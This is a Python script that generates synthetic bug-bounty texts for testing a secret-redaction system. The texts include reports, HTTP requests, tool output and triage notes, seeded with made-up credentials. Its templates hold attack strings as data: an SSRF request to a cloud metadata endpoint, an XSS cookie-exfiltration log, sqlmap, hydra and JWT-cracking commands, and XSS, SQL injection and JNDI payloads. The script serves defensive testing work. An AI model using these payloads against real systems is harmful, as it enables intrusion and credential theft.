"""Blind redaction source "bugbounty" (round 54, helper corpora26): bug bounty and vulnerability disclosure.

HackerOne / Bugcrowd / Intigriti / YesWeHack reports and their APIs, researchers' PoCs and request captures, triage
notes, disclosure e-mails, recon and scanner output pasted into reports, platform API tokens, recon tool configs.
Seeded; standard library and _tokens only. Every value is random and made up.
"""
from __future__ import annotations

import base64
import json
import string
from pathlib import Path

from _tokens import B62, HEX, UPPER, URLSAFE, Gen

FAMILY = "bugbounty"
g = Gen(5403)
R = g.r
LOW = string.ascii_lowercase
DIG = string.digits

WORDS = ["payload", "gadget", "oracle", "sandbox", "scope", "triage", "bounty", "exploit", "canary", "redirect",
         "harbor", "maple", "river", "summit", "lantern", "copper", "willow", "meadow", "granite", "orbit",
         "pelican", "thunder", "velvet", "saffron", "juniper", "glacier"]
TARGETS = ["shop.acme-retail.com", "api.fintrust.io", "app.healthnest.com", "portal.cloudpay.net", "admin.ridego.co",
           "m.streamly.tv", "auth.learnhub.org", "api.parcelfox.com", "beta.teamdesk.app", "files.vaultbox.io"]
HANDLES = ["0xdeadc0de", "nullbyte", "r3con_ranger", "h4ckm4n", "ssrfqueen", "idor_hunter", "bl4ckh0le", "xss_nomad",
           "kitsune", "pwnpanda", "s1lentbit", "mirai_k"]
PEOPLE = ["dana", "marcus", "priya", "jules", "tomas", "keisha", "wen", "brooke", "ahmed", "lucia", "sam", "ines"]


def alnum(n: int) -> str:
    return g.s(B62, n)


def pin(n: int = 4) -> str:
    return g.s(DIG, n)


def words_pw() -> str:
    return R.choice(WORDS).capitalize() + R.choice(WORDS).capitalize() + str(R.randint(1, 99))


def passphrase() -> str:
    return "-".join(R.sample(WORDS, 4))


def legacy() -> str:
    return g.s(LOW, R.randint(4, 6)) + g.s(DIG, 2)


def safe_pw() -> str:
    k = R.randint(0, 5)
    if k == 0:
        return words_pw()
    if k == 1:
        return alnum(R.randint(12, 20))
    if k == 2:
        return g.s(LOW, 5) + g.s(DIG, 3) + g.s(UPPER, 2)
    if k == 3:
        return legacy()
    if k == 4:
        return passphrase()
    return g.human_pw().rstrip("!#$%.?*&+") + R.choice(["", "x", "Q"])


def any_pw() -> str:
    return safe_pw() if R.random() < .5 else g.pw()


def basic(u: str, p: str) -> str:
    return base64.b64encode(f"{u}:{p}".encode()).decode()


def tgt() -> str:
    return R.choice(TARGETS)


def handle() -> str:
    return R.choice(HANDLES)


def person() -> str:
    return R.choice(PEOPLE)


def rid() -> int:
    return R.randint(1500000, 2900000)


def hook(tool: str, inner: dict) -> str:
    return json.dumps({"session_id": g.uuid(), "hook_event_name": R.choice(["PostToolUse", "PreToolUse"]),
                       "tool_name": tool, "tool_input": inner, "cwd": f"/home/{handle()}/bounty/{tgt().split('.')[1]}"}, indent=R.choice([None, 2]))


def sess() -> str:
    return R.choice([g.hexs(32), g.b64url(32), alnum(40), "s%3A" + g.b64url(24) + "." + g.b64url(32)])


# ---------------------------------------------------------------- secret texts
def s_h1_api():
    ident, tok = R.choice([handle(), f"{tgt().split('.')[1]}-triage"]), g.b64(32)
    c = R.randint(0, 2)
    if c == 0:
        return "structural", (f"$ curl \"https://api.hackerone.com/v1/reports/{rid()}\" -u \"{ident}:{tok}\" -H 'Accept: application/json'"), [tok]
    if c == 1:
        b = basic(ident, tok)
        return "structural", (f"GET /v1/hackers/me/reports HTTP/2\nHost: api.hackerone.com\nAuthorization: Basic {b}\nAccept: application/json\n"), [b]
    return "name-context", (f"H1_API_USERNAME={ident}\nH1_API_TOKEN={tok}\nH1_PROGRAM_HANDLE={tgt().split('.')[1]}\n"), [tok]


def s_bugcrowd_api():
    u, p = alnum(20), alnum(R.choice([40, 64]))
    c = R.randint(0, 1)
    if c == 0:
        return "structural", (f"curl -H 'Accept: application/vnd.bugcrowd+json' -H 'Authorization: Token {u}:{p}' https://api.bugcrowd.com/submissions?filter%5Bprogram%5D={g.uuid()}"), [p]
    return "name-context", (f"bugcrowd:\n  api_username: {u}\n  api_password: {p}\n  program: {tgt().split('.')[1]}-bbp\n"), [p]


def s_intigriti():
    t = g.hexs(64) if R.random() < .5 else g.b64url(48)
    c = R.randint(0, 1)
    if c == 0:
        return "structural", (f"GET https://api.intigriti.com/external/company/v2/submissions?statusId=3 HTTP/1.1\nAuthorization: Bearer {t}\n"), [t]
    return "name-context", (f"INTIGRITI_CLIENT_ID={g.uuid()}\nINTIGRITI_CLIENT_SECRET={t}\n"), [t]


def s_yeswehack():
    j = g.jwt(sub=handle())
    c = R.randint(0, 1)
    if c == 0:
        return "self-identifying", (f"curl -s https://api.yeswehack.com/programs/{tgt().split('.')[1]}/reports -H 'Authorization: Bearer {j}'"), [j]
    pat = alnum(40)
    return "name-context", (f"# ywh2bugtracker config\nyeswehack:\n  api_url: https://api.yeswehack.com\n  login: {handle()}@wearehackers.example\n  pat: {pat}\n"), [pat]


def s_webhook_secret():
    s = g.hexs(64) if R.random() < .5 else alnum(32)
    return "name-context", (f"# Jira bridge for report state changes\nHACKERONE_WEBHOOK_SECRET={s}\nJIRA_PROJECT=SEC\n"), [s]


def s_leaked_key_report():
    name, tok, mark = g.self_identifying()
    js = R.choice(["main.8f2c1a.js", "app.bundle.js", "chunk-vendors.js", "runtime~main.js"])
    c = R.randint(0, 3)
    if c == 0:
        return "self-identifying", (f"## Summary\nA live {name} credential is exposed in the public JavaScript bundle https://{tgt()}/static/js/{js}.\n\n"
                                    f"## Steps to reproduce\n1. `curl -s https://{tgt()}/static/js/{js} | grep -o '{tok[:6]}[^\\\"]*'`\n2. Output:\n```\n{tok}\n```\n"
                                    "## Impact\nAn attacker can use this credential with the provider API."), [mark]
    if c == 1:
        return "self-identifying", (f"Triage note (#{rid()}): validated the exposed {name} token `{tok}` — it is active, customer notified to revoke. Severity High."), [mark]
    if c == 2:
        return "self-identifying", (f"Bonjour, lors de mes tests sur {tgt()} j'ai trouvé ce jeton {name} dans /.git/config : {tok}\nJe ne l'ai pas utilisé au-delà d'un appel de vérification."), [mark]
    return "self-identifying", hook("Bash", {"command": f"grep -rEo '[A-Za-z0-9_-]{{20,}}' recon/{tgt()}/js | head", "output": f"recon/{tgt()}/js/{js}:{tok}"}), [mark]


def s_aws_ssrf():
    ak, sk = "ASIA" + g.s(UPPER + "234567", 16), g.aws_secret()
    tokn = "IQoJb3JpZ2luX2Vj" + g.b64(R.randint(200, 300)).rstrip("=")
    return "self-identifying", (f"PoC: SSRF via the PDF export `url` parameter\n\nGET /export/pdf?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/web-role HTTP/1.1\nHost: {tgt()}\n\n"
                                f"Response (rendered into the PDF):\n{{\n  \"Code\" : \"Success\",\n  \"Type\" : \"AWS-HMAC\",\n  \"AccessKeyId\" : \"{ak}\",\n"
                                f"  \"SecretAccessKey\" : \"{sk}\",\n  \"Token\" : \"{tokn}\",\n  \"Expiration\" : \"2026-12-01T09:14:07Z\"\n}}"), [ak, sk, tokn]


def s_env_exposed():
    p, k = safe_pw(), g.b64(32)
    stripe = g.stripe()
    return "structural", (f"## Exposed .env file\n`GET https://{tgt()}/.env` returns 200:\n```\nAPP_ENV=production\nAPP_KEY=base64:{k}\n"
                          f"DB_HOST=10.0.3.12\nDB_USERNAME=forge\nDB_PASSWORD={p}\nSTRIPE_SECRET={stripe}\n```"), [k, p, stripe]


def s_test_creds():
    u, p = f"{handle()}+{R.choice(['h1', 'bc', 'ywh', 'intigriti'])}@{R.choice(['wearehackerone.com', 'bugcrowdninja.com', 'intigriti.me'])}", safe_pw()
    c = R.randint(0, 3)
    if c == 0:
        v = safe_pw()
        return "structural", (f"### Accounts used\n- Attacker: {u} / {p}\n- Victim: {handle()}+victim@wearehackerone.com / {v}\n"), [p, v]
    if c == 1:
        return "structural", (f"Program note: testing credentials for the staging tenant (do not share outside the program)\n"
                              f"URL: https://staging.{tgt()}\nusername: bbp-tester-{R.randint(1, 40)}\npassword: {p}\n"), [p]
    if c == 2:
        return "structural", (f"テスト用アカウント: {u} パスワード: {p}\n本番環境では使用しないでください。"), [p]
    return "structural", (f"Cuenta de prueba del programa: usuario {u}, contraseña {p}. Solo para el entorno de staging."), [p]


def s_burp_request():
    s, j = sess(), g.jwt(sub=str(R.randint(1000, 99999)))
    c = R.randint(0, 2)
    if c == 0:
        return "structural", (f"POST /api/v2/users/{R.randint(1000, 99999)}/email HTTP/2\nHost: {tgt()}\nCookie: _ga=GA1.2.{R.randint(10**8, 10**9)}.{R.randint(10**9, 2 * 10**9)}; session={s}\n"
                              "Content-Type: application/json\n\n{\"email\":\"attacker@example.org\"}"), [s]
    if c == 1:
        return "self-identifying", (f"GET /api/admin/users?page=1 HTTP/1.1\nHost: {tgt()}\nAuthorization: Bearer {j}\nX-Requested-With: XMLHttpRequest\n\n"
                                    "HTTP/1.1 200 OK  (IDOR: non-admin token returns the admin list)"), [j]
    return "structural", (f"curl -i -s -k -X $'GET' -H $'Host: {tgt()}' -b $'sid={s}' $'https://{tgt()}/account/export?id={R.randint(1000, 9999)}'"), [s]


def s_ffuf_sqlmap():
    s, p = sess(), safe_pw()
    c = R.randint(0, 2)
    if c == 0:
        return "structural", (f"$ ffuf -u https://{tgt()}/api/FUZZ -w raft-medium.txt -H 'Cookie: PHPSESSID={s}' -mc 200,403"), [s]
    if c == 1:
        return "structural", (f"$ sqlmap -u 'https://{tgt()}/search?q=1' --cookie='auth={s}' --level 3 --risk 2 --batch"), [s]
    return "structural", (f"$ sqlmap -r req.txt --auth-type=Basic --auth-cred='qa:{p}' --dbs"), [p]


def s_hydra_output():
    p = safe_pw()
    user = R.choice(["admin", "root", "jenkins", "test", "support"])
    return "structural", (f"[DATA] attacking ssh://{tgt()}:22/\n[22][ssh] host: {tgt()}   login: {user}   password: {p}\n1 of 1 target successfully completed, 1 valid password found"), [p]


def s_jwt_crack():
    k = R.choice([legacy(), words_pw(), g.s(LOW, 6), "secret" + pin(3)])
    j = g.jwt(sub="admin")
    return "name-context", (f"$ python3 jwt_tool.py {j} -C -d rockyou.txt\n[+] {k} is the CORRECT key!\nYou can tamper/fuzz the token contents (-T/-I) and sign it using:\n"
                            f"python3 jwt_tool.py [options here] -S hs256 -p \"{k}\""), [k, j]


def s_interactsh():
    t = g.uuid()
    return "name-context", (f"$ interactsh-client -server oast.{R.choice(['internal-oob.example', 'oob.' + handle() + '.net'])} -token {t} -v\n"
                            f"[INF] Listing 1 payload for OOB Testing\n[INF] {g.s(LOW + DIG, 20)}.oob.example"), [t]


def s_recon_config():
    c = R.randint(0, 3)
    if c == 0:
        a, b, d, vt = alnum(32), g.hexs(32), alnum(32), g.hexs(64)
        return "name-context", (f"# ~/.config/subfinder/provider-config.yaml\nsecuritytrails:\n  - {a}\nshodan:\n  - {d}\nvirustotal:\n  - {vt}\nchaos:\n  - {b}\n"), [a, d, vt, b]
    if c == 1:
        k = g.uuid()
        return "name-context", (f"$ export PDCP_API_KEY={k}\n$ nuclei -l alive.txt -t http/exposures/ -cloud-upload"), [k]
    if c == 2:
        k, sec = alnum(32), alnum(32)
        return "name-context", (f"# amass config.ini\n[data_sources.Censys]\n[data_sources.Censys.Credentials]\napikey = {k}\nsecret = {sec}\n"), [k, sec]
    k = alnum(32)
    return "structural", (f"curl -s 'https://api.shodan.io/shodan/host/search?key={k}&query=ssl.cert.subject.cn:{tgt()}' | jq '.matches[].ip_str'"), [k]


def s_notify():
    w = g.slack_webhook()
    seg = w.rsplit("/", 1)[1]
    tg = g.telegram()
    if R.random() < .5:
        return "self-identifying", (f"# notify provider-config.yaml\nslack:\n  - id: \"recon\"\n    slack_channel: \"new-subdomains\"\n    slack_webhook_url: \"{w}\"\n"), [seg]
    return "self-identifying", (f"telegram:\n  - id: \"tg\"\n    telegram_api_key: \"{tg}\"\n    telegram_chat_id: \"{R.randint(10**8, 10**10)}\"\n"), [tg]


def s_github_token():
    t = g.gh_classic()
    return "self-identifying", (f"$ github-subdomains -d {tgt().split('.', 1)[1]} -t {t} -o gh-subs.txt"), [t]


def s_nuclei_output():
    name, tok, mark = g.self_identifying()
    return "self-identifying", (f"[{name}-token] [http] [high] https://{tgt()}/config.js [\"{tok}\"]\n[tech-detect:nginx] [http] [info] https://{tgt()}"), [mark]


def s_actuator():
    p = safe_pw()
    return "structural", (f"GET /actuator/env HTTP/1.1 -> 200\n{{\"name\":\"applicationConfig: [classpath:/application.yml]\",\"properties\":{{\n"
                          f"  \"spring.datasource.url\":{{\"value\":\"jdbc:postgresql://db:5432/app\"}},\n  \"spring.datasource.username\":{{\"value\":\"app\"}},\n"
                          f"  \"spring.datasource.password\":{{\"value\":\"{p}\"}}}}}}"), [p]


def s_git_config_leak():
    p = safe_pw()
    t = g.gitlab()
    if R.random() < .5:
        return "structural", (f"$ curl -s https://{tgt()}/.git/config\n[remote \"origin\"]\n\turl = https://deploy:{p}@git.{tgt().split('.', 1)[1]}/web/storefront.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*"), [p]
    return "self-identifying", (f"[remote \"origin\"]\n\turl = https://oauth2:{t}@gitlab.com/{tgt().split('.')[1]}/backend.git"), [t]


def s_disclosure_email():
    p = safe_pw()
    zpw = passphrase()
    c = R.randint(0, 1)
    if c == 0:
        return "name-context", (f"To: security@{tgt().split('.', 1)[1]}\nSubject: Vulnerability report — account takeover via password reset\n\n"
                                f"Hello,\nthe PoC video and HAR are in the attached ZIP. Archive password: {zpw}\nI'll follow a 90-day disclosure timeline.\n-- {handle()}"), [zpw]
    return "structural", (f"Hi {handle()},\nthanks for the report. To retest, use the account we created for you:\n  login: researcher-{R.randint(100, 999)}\n  password: {p}\n"
                          f"Regards, {person().title()} (PSIRT)"), [p]


def s_db_dump_report():
    p = safe_pw()
    return "structural", (f"## Impact\nThe exposed Redis instance accepts the password from the leaked config:\n```\n$ redis-cli -h {tgt()} -a '{p}' INFO keyspace\n"
                          "db0:keys=184233,expires=0\n```"), [p]


def s_mongo_uri():
    p = safe_pw()
    return "structural", (f"Found in https://{tgt()}/assets/config.json: \"mongoUri\": \"mongodb+srv://admin:{p}@cluster1.{g.s(LOW + DIG, 5)}.mongodb.net/prod\""), [p]


def s_heapdump():
    p = safe_pw()
    k = g.hexs(40)
    return "name-context", (f"$ strings heapdump | grep -iE 'password|secret' | head\nspring.mail.password={p}\njwt.signing.secret={k}\n"), [p, k]


def s_firebase():
    k = g.google_api()
    return "self-identifying", (f"const firebaseConfig = {{\n  apiKey: \"{k}\",\n  authDomain: \"{tgt().split('.')[1]}-prod.firebaseapp.com\",\n  databaseURL: \"https://{tgt().split('.')[1]}-prod-default-rtdb.firebaseio.com\"\n}};\n"
                                "// /.json readable without auth -> reported as misconfig"), [k]


def s_pem_report():
    block, mark = g.pem()
    return "self-identifying", (f"The backup file https://{tgt()}/backup/id_rsa (found via directory listing) contains:\n```\n{block}\n```\nI did not use it to log in."), [mark]


def s_triage_chat():
    t = alnum(R.choice([32, 40]))
    c = R.randint(0, 2)
    if c == 0:
        return "name-context", (f"[triage] {person()}: the researcher pasted our staging api key in the report body ({t}), can someone rotate before we make it public?"), [t]
    if c == 1:
        return "name-context", (f"[Triage] Der API-Schlüssel aus Bericht #{rid()} ({t}) ist noch gültig — bitte rotieren, bevor wir offenlegen."), [t]
    return "name-context", (f"分类备注：报告 #{rid()} 中的 API 密钥 {t} 仍然有效，请在公开前轮换。"), [t]


def s_h1_cli():
    tok = g.b64(32)
    return "name-context", (f"$ cat ~/.config/h1/config.json\n{{\"username\": \"{handle()}\", \"api_token\": \"{tok}\", \"default_program\": \"{tgt().split('.')[1]}\"}}"), [tok]


def s_bounty_ops():
    c = R.randint(0, 1)
    if c == 0:
        p = pin(6)
        return "name-context", (f"Payout setup: Payoneer account for {handle()} — withdrawal PIN {p} (do NOT paste in the report)"), [p]
    p = safe_pw()
    return "structural", (f"Bug bounty VPN for in-scope internal targets:\nopenvpn --config bbp-lab.ovpn --auth-user-pass creds.txt\n# creds.txt\n{handle()}\n{p}\n"), [p]


def s_notebook():
    tok = g.b64(32)
    cell = {"cell_type": "code", "execution_count": R.randint(1, 20), "metadata": {},
            "source": ["import requests\n", f"auth = ('{handle()}', '{tok}')\n",
                       "r = requests.get('https://api.hackerone.com/v1/hackers/payments/payouts', auth=auth)\n", "pd.DataFrame(r.json()['data'])\n"], "outputs": []}
    return "structural", json.dumps({"cells": [cell], "nbformat": 4, "nbformat_minor": 5}, indent=1), [tok]


def s_diff():
    t = alnum(40)
    return "name-context", (f"diff --git a/scripts/sync_reports.py b/scripts/sync_reports.py\n@@ -4,2 +4,2 @@\n-BUGCROWD_TOKEN = os.environ['BUGCROWD_TOKEN']\n+BUGCROWD_TOKEN = '{t}'\n"), [t]


def s_xss_cookie_exfil():
    s = sess()
    return "structural", (f"PoC result — my listener received:\n{R.choice(['10.20.0.4', '203.0.113.9'])} - - [01/Dec/2026:10:02:11 +0000] \"GET /c?d=connect.sid%3D{s} HTTP/1.1\" 200 0 \"https://{tgt()}/admin/tickets\"\n"
                          "(victim: support agent session, used once to confirm, then reported)"), [s]


def s_csv_leak():
    p1, p2 = legacy(), words_pw()
    return "structural", (f"## Sensitive data exposure\n/exports/users.csv is world-readable (first rows, passwords stored in clear text):\n"
                          f"id,email,password\n1,ops@{tgt().split('.', 1)[1]},{p1}\n2,qa@{tgt().split('.', 1)[1]},{p2}\n"), [p1, p2]


def s_self_misc():
    name, tok, mark = g.self_identifying()
    return "self-identifying", (f"# researcher's recon box .env\n{name.upper()}_TOKEN={tok}\n"), [mark]


SECRET_TEMPLATES = [s_h1_api, s_bugcrowd_api, s_intigriti, s_yeswehack, s_webhook_secret, s_leaked_key_report, s_leaked_key_report,
                    s_aws_ssrf, s_env_exposed, s_test_creds, s_burp_request, s_ffuf_sqlmap, s_hydra_output, s_jwt_crack,
                    s_interactsh, s_recon_config, s_notify, s_github_token, s_nuclei_output, s_actuator, s_git_config_leak,
                    s_disclosure_email, s_db_dump_report, s_mongo_uri, s_heapdump, s_firebase, s_pem_report, s_triage_chat,
                    s_h1_cli, s_bounty_ops, s_notebook, s_diff, s_xss_cookie_exfil, s_csv_leak, s_self_misc]


# ---------------------------------------------------------------- clean texts
def c_report_meta():
    return (f"Report #{rid()} · {R.choice(['Stored XSS', 'IDOR', 'SSRF', 'Open redirect', 'Race condition'])} on {tgt()}\n"
            f"Severity: {R.choice(['Medium (5.4)', 'High (7.5)', 'Critical (9.1)'])}\nCVSS:3.1/AV:N/AC:L/PR:{R.choice('NLH')}/UI:{R.choice('NR')}/S:U/C:H/I:L/A:N\n"
            f"Weakness: CWE-{R.choice([79, 639, 918, 601, 362])}\nBounty: ${R.randint(100, 15000)}")


def c_xss_payload():
    return R.choice(["Payload: \"><svg/onload=alert(document.domain)>", "Payload: javascript:alert(1)//", "Payload: {{constructor.constructor('alert(1)')()}}",
                     "Payload: ' OR '1'='1' -- -", "Payload: ${jndi:ldap://" + g.s(LOW + DIG, 12) + ".oast.fun/a}"]) + f"\nReflected in parameter `{R.choice(['q', 'next', 'redirect_uri', 'name'])}` on https://{tgt()}/"


def c_redacted_key():
    return (f"## Summary\nAn AWS access key (AKIA{'*' * 16}) and its secret ([REDACTED]) were found in a public S3 object. Values removed from this report at the program's request; "
            f"the key was deactivated on 2026-11-{R.randint(10, 28)}.")


def c_cve():
    return (f"CVE-2026-{R.randint(10000, 59999)} assigned. Fixed in v{R.randint(1, 9)}.{R.randint(0, 30)}.{R.randint(0, 9)} (commit {g.sha1()}).\n"
            f"GHSA-{g.s('23456789cfghjmpqrvwx', 4)}-{g.s('23456789cfghjmpqrvwx', 4)}-{g.s('23456789cfghjmpqrvwx', 4)}")


def c_security_txt():
    return (f"Contact: mailto:security@{tgt().split('.', 1)[1]}\nExpires: 2027-0{R.randint(1, 9)}-01T00:00:00.000Z\nEncryption: https://{tgt().split('.', 1)[1]}/pgp-key.txt\n"
            f"Policy: https://hackerone.com/{tgt().split('.')[1]}\nPreferred-Languages: en, fr")


def c_pgp_pub():
    body = "\n".join(g.b64(48) for _ in range(R.randint(5, 9)))
    return f"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n{body}\n={g.b64(3)}\n-----END PGP PUBLIC KEY BLOCK-----"


def c_pgp_msg():
    body = "\n".join(g.b64(48) for _ in range(R.randint(4, 8)))
    return f"Encrypted report attached:\n-----BEGIN PGP MESSAGE-----\n\n{body}\n={g.b64(3)}\n-----END PGP MESSAGE-----"


def c_collab():
    return (f"Blind SSRF confirmed: DNS lookup received for {g.s(LOW + DIG, 30)}.oastify.com from {R.choice(['52.', '34.', '18.'])}{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(0, 255)} "
            f"at 2026-11-{R.randint(10, 28)} 10:{R.randint(10, 59)}:{R.randint(10, 59)} UTC (Burp Collaborator)")


def c_h1_json():
    return json.dumps({"data": {"id": str(rid()), "type": "report", "attributes": {"title": "IDOR in invoice download", "state": R.choice(["triaged", "resolved", "duplicate"]),
                       "created_at": "2026-11-0%dT08:00:00.000Z" % R.randint(1, 9), "weakness_id": R.randint(1, 120)},
                       "relationships": {"reporter": {"data": {"id": str(R.randint(100000, 999999)), "attributes": {"username": handle()}}}}}}, indent=1)


def c_nuclei_info():
    return "\n".join(f"[{R.choice(['tech-detect:cloudflare', 'http-missing-security-headers:x-frame-options', 'ssl-dns-names', 'waf-detect:aws'])}] [http] [info] https://{tgt()}" for _ in range(R.randint(3, 6)))


def c_subdomains():
    d = tgt().split(".", 1)[1]
    return "\n".join(f"{R.choice(['dev', 'staging', 'api-v2', 'grafana', 'jira', 'cdn', 'vpn'])}{R.randint(1, 9)}.{d}" for _ in range(R.randint(4, 8))) + f"\n# {R.randint(50, 900)} subdomains, sha1 of list {g.sha1()}"


def c_csrf_request():
    return (f"POST /settings/profile HTTP/1.1\nHost: {tgt()}\nContent-Type: application/x-www-form-urlencoded\n\n"
            f"csrf_token={g.b64url(32)}&display_name=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E")


def c_triage_template():
    return R.choice([
        "Thanks for your report! We were able to reproduce it and have triaged it to the team. Please do not access or retain any user data beyond what is needed to demonstrate impact.",
        "Closing as Informative: the exposed key is a publishable client-side key and grants no privileged access.",
        "Duplicate of an earlier report; you'll be added as a participant. Please avoid including live credentials in reports — describe where you found them instead.",
        "Merci pour votre rapport. Nous l'avons reproduit ; la correction est prévue pour la prochaine version.",
        "Vielen Dank! Wir haben das Problem bestätigt. Bitte keine echten Zugangsdaten in Berichte kopieren.",
        "报告已确认，我们会尽快修复。请勿在报告中粘贴真实的密钥或密码。",
    ]) + f" (#{rid()})"


def c_scope():
    return "\n".join(f"{R.choice(['URL', 'WILDCARD', 'ANDROID', 'IOS'])},{R.choice(['*.', ''])}{tgt()},{R.choice(['critical', 'high', 'medium'])},eligible_for_bounty={R.choice(['true', 'false'])}" for _ in range(R.randint(3, 6)))


def c_env_example():
    return "# .env.example for the report sync bot\nH1_API_USERNAME=\nH1_API_TOKEN=<your token>\nBUGCROWD_TOKEN=changeme\nINTIGRITI_CLIENT_SECRET=${INTIGRITI_CLIENT_SECRET}\n"


def c_gh_actions():
    return "    - run: ./sync-h1.sh\n      env:\n        H1_API_TOKEN: ${{ secrets.H1_API_TOKEN }}\n        JIRA_TOKEN: ${{ secrets.JIRA_TOKEN }}\n"


def c_hashes():
    return f"poc.zip  sha256={g.sha256()}\nvideo.mp4 sha256={g.sha256()}\nreq.har  md5={g.hexs(32)}"


def c_uuid_ids():
    return f"program_id={g.uuid()}\nsubmission_id={g.uuid()}\ntarget_id={g.uuid()}\nresearcher: {handle()}"


def c_jwt_header_discuss():
    return ("The server accepts tokens whose header is {\"alg\":\"none\"} (base64url eyJhbGciOiJub25lIn0). Steps: decode the session token, set alg to none, "
            f"drop the signature and resend. Tested only on my own account (user id {R.randint(1000, 99999)}).")


def c_b64_test():
    return f"The `state` parameter is just base64 JSON: {base64.b64encode(json.dumps({'redirect': '/dashboard', 'n': R.randint(1, 999)}).encode()).decode()} — not signed, hence the open redirect."


def c_commit():
    return f"commit {g.sha1()}\nAuthor: {person()} <{person()}@{tgt().split('.', 1)[1]}>\n\n    Fix IDOR in /api/invoices (reported via HackerOne #{rid()})"


def c_lockfile():
    return f"\"node_modules/dompurify\": {{\n  \"version\": \"3.{R.randint(0, 3)}.{R.randint(0, 9)}\",\n  \"integrity\": \"sha512-{g.b64(64)}\"\n}}"


def c_hook_clean():
    return hook("Bash", {"command": f"httpx -l subs.txt -title -sc", "output": "\n".join(f"https://{R.choice(['dev', 'app', 'api'])}{R.randint(1, 9)}.{tgt().split('.', 1)[1]} [{R.choice([200, 301, 403])}] [{R.choice(['Login', 'Dashboard', 'Forbidden'])}]" for _ in range(3))})


def c_cert():
    body = "\n".join(g.b64(48) for _ in range(R.randint(4, 7)))
    return f"$ openssl s_client -connect {tgt()}:443 -showcerts </dev/null\n-----BEGIN CERTIFICATE-----\n{body}\n-----END CERTIFICATE-----"


def c_pk_publishable():
    return f"Found `pk_live_{alnum(24)}` in checkout.js — this is Stripe's publishable key, meant for browsers; closing as N/A."


def c_sentry_dsn():
    return f"Sentry.init({{ dsn: \"https://{g.hexs(32)}@o{R.randint(10000, 999999)}.ingest.sentry.io/{R.randint(1000000, 9999999)}\" }}) // public DSN, not a vulnerability"


def c_disclosure_timeline():
    return (f"Timeline\n2026-0{R.randint(1, 9)}-0{R.randint(1, 9)} reported\n+2d triaged\n+21d fixed in {g.sha1()[:12]}\n+30d bounty awarded\n+90d disclosed\n"
            f"Tracking: SEC-{R.randint(1000, 9999)}")


CLEAN_TEMPLATES = [c_report_meta, c_xss_payload, c_redacted_key, c_cve, c_security_txt, c_pgp_pub, c_pgp_msg, c_collab, c_h1_json,
                   c_nuclei_info, c_subdomains, c_csrf_request, c_triage_template, c_scope, c_env_example, c_gh_actions, c_hashes,
                   c_uuid_ids, c_jwt_header_discuss, c_b64_test, c_commit, c_lockfile, c_hook_clean, c_cert, c_pk_publishable,
                   c_sentry_dsn, c_disclosure_timeline]


def main() -> None:
    out = Path(__file__).resolve().parent
    secrets = []
    order = []
    while len(secrets) < 250:
        if not order:
            order = list(SECRET_TEMPLATES)
            R.shuffle(order)
        fn = order.pop()
        cls, text, vals = fn()
        if not vals:
            continue
        secrets.append((cls, text, vals))
    clean = []
    corder = []
    while len(clean) < 100:
        if not corder:
            corder = list(CLEAN_TEMPLATES)
            R.shuffle(corder)
        clean.append(corder.pop()())
    with open(out / f"{FAMILY}_secrets.jsonl", "w", encoding="utf-8") as f:
        for i, (cls, text, vals) in enumerate(secrets, 1):
            for v in vals:
                assert v and v in text, (FAMILY, i, v)
            f.write(json.dumps({"id": f"{FAMILY}-{i}", "family": FAMILY, "class": cls, "text": text, "secrets": vals},
                               ensure_ascii=False) + "\n")
    with open(out / f"{FAMILY}_clean.jsonl", "w", encoding="utf-8") as f:
        for i, text in enumerate(clean, 1):
            f.write(json.dumps({"id": f"{FAMILY}-c{i}", "family": FAMILY, "text": text}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
